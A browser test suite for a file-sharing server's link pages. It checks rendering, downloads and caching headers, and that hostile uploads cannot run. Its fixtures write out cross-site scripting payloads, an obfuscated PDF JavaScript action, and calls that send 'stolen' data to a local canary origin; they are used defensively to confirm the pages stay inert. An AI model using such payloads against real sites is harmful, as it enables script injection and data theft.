// What a person's browser makes of the links: pages about files, in real Chromium, and what hostile
// files cannot do there.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { Server, eventually } from './support/server.mjs';
import { Agent } from './support/client.mjs';
import { openBrowser, openTab } from './support/browser.mjs';
import { png, wav, pdf, webm } from './support/samples.mjs';

let server, agent, id, browser, canary, bait;
const hits = [];
before(async () => {
  server = await Server.start();
  agent = await Agent.connect(server.url);
  id = await agent.container();
  browser = await openBrowser();
  // Another origin: it counts who comes, and serves the page of an attacker.
  canary = createServer((req, res) => {
    if (req.url !== '/attack' && req.url !== '/favicon.ico') hits.push(`${req.method} ${req.url}`);
    res.setHeader('Content-Type', 'text/html');
    res.end(req.url === '/attack' ? bait : '');
  }).listen(0, '127.0.0.1');
  await once(canary, 'listening');
});
after(async () => { await browser?.close(); canary?.close(); await agent?.close(); await server?.stop(); });

/** Puts a file into the container; resolves with its link. */
async function share(name, content, args = {}) {
  const { url } = await agent.call('get_upload_url', { container_id: id, path: name });
  assert.ok((await fetch(url, { method: 'PUT', body: content })).ok);
  return (await agent.call('get_file_url', { container_id: id, file_path: name, ...args })).url;
}

/** Opens a link; look: what to do with the tab. */
async function visit(url, look, options) {
  const tab = await openTab(browser, options);
  try {
    const reply = await tab.goto(url);
    return await look(tab, reply);
  } finally {
    await tab.end();
  }
}

const outside = () => `http://127.0.0.1:${canary.address().port}`;

test('a person sees name, size, time left and a button that saves the file', async () => {
  const name = '보고서 "최종" <1>.txt';
  const url = await share(name, 'first line\nsecond line\n');
  await visit(url, async (tab, reply) => {
    assert.equal(reply.status(), 200);
    assert.equal(await tab.title(), name);
    assert.equal(await tab.locator('h1').textContent(), name);
    assert.match(await tab.locator('.facts').textContent(), /text23 byteslink works for 1 h 5\d min \(until \d\d:\d\d UTC\)/);
    assert.equal(await tab.locator('pre').textContent(), 'first line\nsecond line\n');
    assert.equal(await tab.locator('html').getAttribute('lang'), 'en');
    const [download] = await Promise.all([tab.waitForEvent('download'), tab.getByRole('link', { name: 'Download' }).click()]);
    assert.equal(await readFile(await download.path(), 'utf8'), 'first line\nsecond line\n');
    assert.match(download.suggestedFilename(), /^보고서/);
    assert.deepEqual(tab.asked, [url, `${url}?download=1`], 'the page fetches nothing');
  });
});

test('pictures, sound and film are shown and can be played', async () => {
  const film = await webm(browser);
  for (const [name, content, word, look] of [
    ['p.png', png(321, 123), 'png', (e) => e.decode().then(() => [e.naturalWidth, e.naturalHeight])],
    ['p.svg', `<svg xmlns="http://www.w3.org/2000/svg" width="77" height="33"><script>fetch('${outside()}/svg')</script>` +
      `<image href="${outside()}/svg-image" width="9" height="9"/><style>@import '${outside()}/svg-style';</style></svg>`,
     'svg', (e) => e.decode().then(() => [e.naturalWidth, e.naturalHeight])],
    ['s.wav', wav(2), 'wav', (e) => e.duration],
    ['no ending', film, 'webm', (e) => [e.videoWidth, e.videoHeight]],
  ]) {
    const url = await share(name, content);
    await visit(url, async (tab) => {
      const element = tab.locator('main img, main audio, main video');
      const wanted = { 'p.png': [321, 123], 'p.svg': [77, 33], 's.wav': 2, 'no ending': [300, 150] }[name];
      let seen;
      await eventually(`${name} is there`, async () => {
        seen = await element.evaluate(look);
        return JSON.stringify(seen) === JSON.stringify(wanted);
      }, 8000).catch((err) => { throw new Error(`${err.message}: ${JSON.stringify(seen)}`); });
      assert.deepEqual([...new Set(tab.asked)], [url, `${url}?raw=${word}`]);
    });
  }
  assert.deepEqual(hits, []);
});

test('a PDF is shown by the viewer of the browser', async () => {
  const url = await share('paper.pdf', pdf('Hello'));
  await visit(url, async (tab) => {
    await eventually('the viewer', () => tab.frames().some((frame) => frame.url().startsWith('chrome-extension://')), 8000);
    assert.ok(tab.asked.includes(`${url}?raw=pdf`));
  });
});

test('Markdown, code, tables and bytes look like what they are', async () => {
  const markdown = await share('a.md', '# Title\n\n- [x] *done*\n\n```py\nreturn 1\n```\n\n' +
    `![picture](${outside()}/picture.png) <img src="${outside()}/raw.png"> [bad](javascript:fetch('${outside()}/js'))\n`);
  await visit(markdown, async (tab) => {
    assert.equal(await tab.getByRole('heading', { level: 2 }).textContent(), 'Title');
    assert.equal(await tab.locator('pre b').textContent(), 'return');
    assert.equal(await tab.locator('article a').count(), 1);
    assert.equal(await tab.locator('article a').getAttribute('rel'), 'noopener noreferrer nofollow');
    assert.equal(await tab.locator('img').count(), 0);
    assert.deepEqual(tab.asked, [markdown]);
    const [opened] = await Promise.all([tab.context().waitForEvent('page'), tab.locator('article a').click()]);
    await opened.waitForLoadState();
    assert.equal(opened.url(), `${outside()}/picture.png`, 'a link that is clicked leads there');
  });
  assert.deepEqual(hits.splice(0), ['GET /picture.png']);
  await visit(await share('a.csv', 'name;n\n"x; ""y""";1\n'), async (tab) => {
    assert.deepEqual(await tab.locator('th, td').allTextContents(), ['name', 'n', 'x; "y"', '1']);
  });
  await visit(await share('a.py', 'def f():\n    return "x"  # why\n'), async (tab) => {
    assert.deepEqual(await tab.locator('code b').allTextContents(), ['def', 'return']);
    assert.equal(await tab.locator('code').textContent(), 'def f():\n    return "x"  # why\n');
  });
  await visit(await share('a.bin', Buffer.from([0, 1, 254, 255])), async (tab) => {
    assert.match(await tab.locator('pre').textContent(), /^00000000 {2}00 01 fe ff/);
  });
  await visit(await share('a.js', 'x = "\u202e}";'), async (tab) => {
    assert.equal(await tab.locator('code mark').textContent(), 'U+202E');
  });
});

test('a phone and the night have their own look', async () => {
  const url = await share('wide.py', `x = "${'long '.repeat(100)}"\n`);
  const look = { viewport: { width: 360, height: 640 }, colorScheme: 'dark', isMobile: true };
  await visit(url, async (tab) => {
    const seen = await tab.evaluate(() => ({
      width: document.documentElement.scrollWidth, colour: getComputedStyle(document.body).backgroundColor,
    }));
    assert.equal(seen.width, 360, 'nothing makes the page wider than the screen');
    assert.equal(seen.colour, 'rgb(21, 24, 29)', 'the style sheet is in force, and dark');
  }, look);
});

test('a large file costs its beginning only', async () => {
  await agent.run(id, 'yes "0123456789 abcdefghij" | head -c 50000000 > large.txt');
  const { url } = await agent.call('get_file_url', { container_id: id, file_path: 'large.txt' });
  await visit(url, async (tab, reply) => {
    assert.ok((await reply.body()).length < 400_000);
    assert.match(await tab.locator('.note').textContent(), /The first 10000 lines are shown/);
    assert.match(await tab.locator('.facts').textContent(), /50 MB/);
  });
});

test('programs get the bytes, and the page is nobody\'s cache', async () => {
  const url = await share('plain.txt', 'bytes\n');
  const html = { Accept: 'text/html,application/xhtml+xml,*/*;q=0.8' };
  assert.equal(await (await fetch(url)).text(), 'bytes\n');
  const page = await fetch(url, { headers: html });
  assert.match(page.headers.get('content-type'), /^text\/html/);
  assert.match(page.headers.get('vary'), /Accept/);
  assert.equal(page.headers.get('etag'), null);
  assert.match(page.headers.get('cache-control'), /no-store/);
  assert.match(await page.text(), /<h1>/);
  const head = await fetch(url, { method: 'HEAD', headers: html });
  assert.match(head.headers.get('content-type'), /^text\/html/);
  const saved = await fetch(`${url}?download=1`, { headers: html });
  assert.match(saved.headers.get('content-disposition'), /^attachment/);
  assert.equal(await saved.text(), 'bytes\n');
  const part = await fetch(url, { headers: { ...html, Range: 'bytes=0-1' } });
  assert.equal(await part.text(), 'by');
});

// What a hostile file tries, wherever its script gets to run.
const mischief = () => `
  try { localStorage.x = 1 } catch {}
  try { document.cookie = 'x=1' } catch {}
  try { document.title = 'taken'; parent.document.title = 'taken' } catch {}
  try { fetch('${outside()}/hit') } catch {}
  try { fetch(location.pathname).then(() => fetch('${outside()}/stolen')) } catch {}
  new Image().src = '${outside()}/image'; alert('here');`;
// The same without a quote, in case that quotes alone were escaped.
const bare = '<script>localStorage.x=1;alert(1)</script><img src=x onerror=localStorage.x=1,alert(1)>';
const hostile = () => ({
  'evil.html': `<!doctype html><title>evil</title><base href="${outside()}/"><meta http-equiv="refresh" content="0;url=${outside()}/refresh">
    <link rel=stylesheet href="${outside()}/style"><img src="${outside()}/img" onerror="${mischief().replace(/"/g, '&quot;')}">
    <form action="${outside()}/form"><button autofocus onfocus="this.form.submit()"></form><script>${mischief()}</script>${bare}`,
  'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${mischief().replace(/"/g, '&quot;').replace(/&(?!quot)/g, '&amp;')}">
    <script>${mischief().replace(/[<&]/g, '')}</script><image href="${outside()}/svg-img" width="9" height="9"/></svg>`,
  'evil.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>evil</title></head><body><script>${mischief()}</script></body></html>`,
  'evil.xml': `<?xml-stylesheet href="${outside()}/xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${mischief()}</h:script></x>`,
  // The name is written so that no search for it finds it: the viewer gets to see it.
  'evil.pdf': pdf('evil', `<< /S /J#61vaScript /J#53 (${`app.alert('here'); this.submitForm('${outside()}/pdf'); ` +
    `this.getURL('${outside()}/pdf'); app.launchURL('${outside()}/pdf'); document.title = 'taken'`}) >>`
    .replace(/\((.*)\)/s, (all, text) => `(${text.replace(/[()]/g, '\\$&')})`)),
  'evil.md': `${bare}\n\n${bare} text\n\n<script>${mischief()}</script>\n\n<img src=x onerror="${mischief()}">\n\n[x](javascript:alert(1))`,
  'evil.js': mischief(),
  'evil.png': `<script>${mischief()}</script>${bare}`,
  'evil.csv': `a,${bare}\n${bare},b\n`,
  'evil <img src=x onerror=alert(1)>.txt': bare,
});

/** Nothing of it ran with our origin's rights, nothing was fetched from elsewhere. */
async function assertUnharmed(tab, url, what) {
  const home = new URL(url).origin;
  assert.deepEqual(hits, [], what);
  const known = [`${home}/files/`, `${outside()}/attack`, 'chrome-extension:', 'chrome:'];
  const strangers = tab.asked.filter((asked) => !known.some((start) => asked.startsWith(start)));
  assert.deepEqual(strangers, [], what);
  await tab.goto(`${home}/health`);
  assert.deepEqual(await tab.evaluate(() => [localStorage.length, document.cookie]), [0, ''], what);
}

test('a hostile file does nothing when its link is opened', async () => {
  await Promise.all(Object.entries(hostile()).map(async ([name, content]) => {
    const url = await share(name, content);
    await visit(url, async (tab) => {
      await tab.waitForLoadState('networkidle');
      assert.equal(tab.url(), url, `${name} leads nowhere`);
      assert.equal(await tab.title(), name);
      // A script of a PDF runs inside of the viewer and may speak; it reaches nothing.
      if (name !== 'evil.pdf') assert.deepEqual(tab.dialogs, [], name);
      await assertUnharmed(tab, url, name);
    });
  }));
});

test('nor when what the page is made of is opened by itself', async () => {
  await Promise.all(['evil.html', 'evil.svg', 'evil.xhtml', 'evil.pdf'].map(async (name) => {
    const url = await share(name, hostile()[name]);
    await visit('about:blank', async (tab) => {
      for (const query of ['?raw=svg', '?raw=pdf', '?raw=png', '?raw=html', '?download=1']) {
        const saved = tab.waitForEvent('download').catch(() => null);
        const reply = await tab.goto(url + query).catch(() => null);
        if (reply) assert.notEqual(await tab.title(), 'taken', name + query);
        else assert.ok(await saved, `${name}${query} is saved`);
        assert.equal(Boolean(reply), ['?raw=png', '?raw=html'].includes(query), name + query);
      }
      assert.deepEqual(tab.dialogs, [], name);
      await assertUnharmed(tab, url, name);
    });
  }));
});

test('nor when a page of somebody else puts it into itself', async () => {
  const urls = [];
  for (const name of ['evil.html', 'evil.svg', 'evil.xhtml', 'evil.pdf', 'evil.js']) urls.push(await share(name, hostile()[name]));
  bait = '<!doctype html><title>attack</title>' + urls.flatMap((url) => ['', '?raw=svg', '?raw=pdf', '?download=1'].map((query) => url + query))
    .map((url) => `<iframe src="${url}"></iframe><img src="${url}"><embed src="${url}"><object data="${url}"></object>` +
      `<script src="${url}"></script><link rel=stylesheet href="${url}">`).join('\n');
  await visit(`${outside()}/attack`, async (tab) => {
    await tab.waitForLoadState('networkidle');
    assert.equal(await tab.title(), 'attack');
    assert.deepEqual(tab.dialogs, []);
    const pictures = await tab.evaluate(() => [...document.images].filter((img) => img.naturalWidth).length);
    assert.equal(pictures, 0, 'nor does it see a picture of ours');
    await assertUnharmed(tab, urls[0], 'attack');
  });
});

test('a dead link is a page that says what became of it', async () => {
  const own = await agent.container();
  await agent.run(own, 'echo x > f');
  const { url } = await agent.call('get_file_url', { container_id: own, file_path: 'f' });
  await agent.call('destroy_container', { container_id: own });
  await visit(url, async (tab, reply) => {
    assert.equal(reply.status(), 404);
    assert.match(await tab.locator('main').textContent(), /destroyed/);
    assert.equal(await tab.evaluate(() => getComputedStyle(document.body).margin), '0px', 'the style sheet is in force');
  });
  await visit(`${server.url}/files/f-${'a'.repeat(26)}`, async (tab, reply) => {
    assert.equal(reply.status(), 404);
    assert.match(await tab.locator('main').textContent(), /This server knows no such link/);
  });
});
